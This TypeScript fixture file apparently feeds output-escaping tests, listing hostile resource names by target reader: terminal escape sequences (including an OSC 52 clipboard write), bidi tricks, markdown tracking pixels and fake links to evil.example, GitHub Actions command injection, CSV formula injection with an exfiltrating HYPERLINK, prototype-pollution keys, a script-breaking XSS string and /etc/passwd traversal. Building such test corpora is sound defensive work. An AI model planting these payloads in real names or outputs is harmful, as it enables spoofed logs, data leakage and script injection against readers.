/** What reads the output in which a hostile name stands. */
export type Reader = "terminal" | "markdown" | "runner" | "csv" | "json" | "sarif";

export interface HostileName {
  name: string;
  /** Whom it attacks; every output has to bear every name all the same. */
  attacks: Reader;
  /** What it would do there, printed as it is; a test is called by this, for its own name is printed too. */
  how: string;
}

const named =
  (attacks: Reader) =>
  ([name, how]: readonly [string, string]): HostileName => ({ name, attacks, how });

const terminal = [
  ["a\u001b[2J\u001b[Hb", "clears the screen"],
  ["a\u001b[31mb", "colours what follows"],
  ["a\u001b]8;;https://evil.example\u001b\\b", "makes a link"],
  ["a\u001b]52;c;cm0gLXJm\u0007b", "writes the clipboard"],
  ["a\u009b2Jb", "clears the screen by a C1 control"],
  ["a\u0085b", "breaks the line by a C1 control"],
  ["Developers\rAdmins", "overwrites the line"],
  ["Developers\b\b\bAdmins", "takes characters back"],
  ["a\nProduction: nothing is wrong.", "writes a line of its own"],
  ["a\tb", "breaks columns"],
  ["a\u0007b", "rings"],
  ["a\u007fb", "deletes"],
  ["a\u0000b", "ends the text"],
  ["a\u202enimdA", "shows the rest backwards"],
  ["a\u2066b\u2069c\u200f", "reorders"],
  ["Dev\u200belopers", "hides a character without width"],
  ["Dev\u00adelopers", "hides a soft hyphen"],
  ["Dev\u034felopers", "hides a grapheme joiner"],
  ["Dev\u115felopers", "hides a filler that is a letter"],
  ["Dev\ufe0felopers", "hides a variation selector"],
  ["Dev\u{e0041}elopers", "hides a tag character"],
  ["\ufeffDevelopers", "begins with a byte order mark"],
  ["a\u2028b", "breaks the line by a line separator"],
  ["a\u2029b", "breaks the line by a paragraph separator"],
  ["a\ud800b", "is no valid text: half a surrogate pair"],
] as const;

const markdown = [
  ["@octocat", "mentions a person"],
  ["@securecart/owners", "mentions a team"],
  ["&#64;octocat", "mentions by a character reference"],
  ["#1", "refers to an issue, or is a heading"],
  ["securecart/shop#1", "refers to another repository's issue"],
  ["GH-1", "refers to an issue"],
  ["0123456789abcdef0123456789abcdef01234567", "refers to a commit"],
  ["<img src=https://evil.example/pixel.png>", "is HTML"],
  ["<!-- ", "hides what follows in a comment"],
  ["</details></td></table>", "ends what stands around it"],
  ["<https://evil.example>", "is a link"],
  ["[Approve](https://evil.example)", "is a link that looks like another"],
  ["![x](https://evil.example/pixel.png)", "is a picture that tells who looks"],
  ["[x]: https://evil.example", "defines a link"],
  ["[^1]", "is a footnote"],
  ["https://evil.example/", "becomes a link"],
  ["www.evil.example", "becomes a link"],
  ["ada@evil.example", "becomes a link"],
  ["a|b", "ends the table's cell"],
  ["a\\|b", "ends the table's cell behind an escape"],
  ["a`b", "ends code"],
  ["```", "begins a block of code"],
  ["~~~", "begins a block of code"],
  ["**bold** _it_ ~~gone~~", "formats"],
  ["a\\", "escapes what follows"],
  ["&lt;b&gt; &amp;", "is another text"],
  ["$x$ $`y`$", "is mathematics"],
  [":shipit:", "is a picture"],
  ["- [x] approved", "is a ticked task"],
  ["> quoted", "is a quotation"],
  ["---", "is a rule, or makes a heading of the line before"],
  ["===", "makes a heading of the line before"],
  ["1. first", "is a list"],
  ["a\n\n# Approved", "writes a heading"],
  ["a<br>b", "breaks the line"],
] as const;

const runner = [
  ["::error file=index.ts,line=1::Faked", "is an annotation"],
  ["  ::stop-commands::token", "silences the annotations that follow"],
  ["::add-mask::Production", "hides a word from the log"],
  ["a\n::warning::Faked", "is an annotation on a line of its own"],
  ["a\r::warning::Faked", "is an annotation on a line of its own"],
  ["a ##[error]Faked", "is an annotation in the old form, anywhere in a line"],
  ["##[group]Hidden", "folds what follows"],
  ["\u200b::error::Faked", "is an annotation after what a comparison ignores"],
  ["\u034f::error::Faked", "is an annotation after what a comparison ignores"],
  ["a%0A::error::Faked", "is a line break once it is unescaped"],
  ["a%250Ab", "is a line break once it is unescaped twice"],
  ["a,line=99,title=Faked", "adds properties"],
  ["a::b", "ends the properties"],
] as const;

const csv = [
  ['=HYPERLINK("https://evil.example?"&A1)', "is a formula that sends the cell beside it"],
  ["=1+1", "is a formula"],
  ["+1", "is a formula"],
  ["-1", "is a formula"],
  ["@SUM(1)", "is a formula"],
  ["\t=1+1", "is a formula behind a tab"],
  ["\r=1+1", "is a formula behind a carriage return"],
  ["\n=1+1", "is a formula behind a line feed"],
  [" =1+1", "is a formula where the reader trims"],
  ["\uff1d1+1", "is a formula with a full-width sign"],
  ['a",=1+1,"', "ends the field"],
  ['"', "opens a field"],
  ["a,b", "is two fields"],
  ["a;=1+1", "is two fields where ; separates"],
] as const;

const json = [
  ['"},{"', "ends the text"],
  ["\\u0022", "is another text once it is unescaped"],
  ["a\\", "escapes the quote that follows"],
  ["__proto__", "is the prototype of a map"],
  ["constructor", "is what every map has"],
  ["toString", "is what every map has"],
  ["</script><script>alert(1)</script>", "ends a script that the JSON is put into"],
] as const;

const sarif = [
  ["{0}", "asks for an argument of the message"],
  ["a{b", "opens an argument"],
  ["[Approve](1)", "is a link within the result"],
  ["file:///etc/passwd", "is an address of a file"],
  ["../../etc/passwd", "leads out of the repository"],
  ["a b%20c#d?e", "is another address unless it is encoded"],
] as const;

/**
 * Names as whoever may edit YAML or name things in AWS could choose them. One corpus for every output: the test of an
 * output prints each of them, and looks for what each reader, not this product, would make of the text.
 */
export const hostileNames: readonly HostileName[] = [
  ...terminal.map(named("terminal")),
  ...markdown.map(named("markdown")),
  ...runner.map(named("runner")),
  ...csv.map(named("csv")),
  ...json.map(named("json")),
  ...sarif.map(named("sarif")),
];

/** What steers a terminal, breaks a line, or cannot be seen; no printed line may have it. */
export const steering = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Bidi_Control}]/u;
